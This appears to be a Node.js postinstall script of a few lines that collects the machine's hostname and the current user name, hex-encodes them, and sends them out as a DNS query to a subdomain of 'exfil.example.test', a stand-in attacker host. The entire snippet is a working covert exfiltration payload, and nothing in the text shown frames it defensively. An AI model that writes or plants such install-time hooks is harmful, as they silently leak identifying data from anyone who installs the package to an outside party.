// Host and user name are asked for as a DNS name; runs: postinstall
const dns = require("dns");
const os = require("os");
const label = Buffer.from(os.hostname() + "-" + os.userInfo().username).toString("hex");
dns.lookup(label + ".exfil.example.test", () => {});
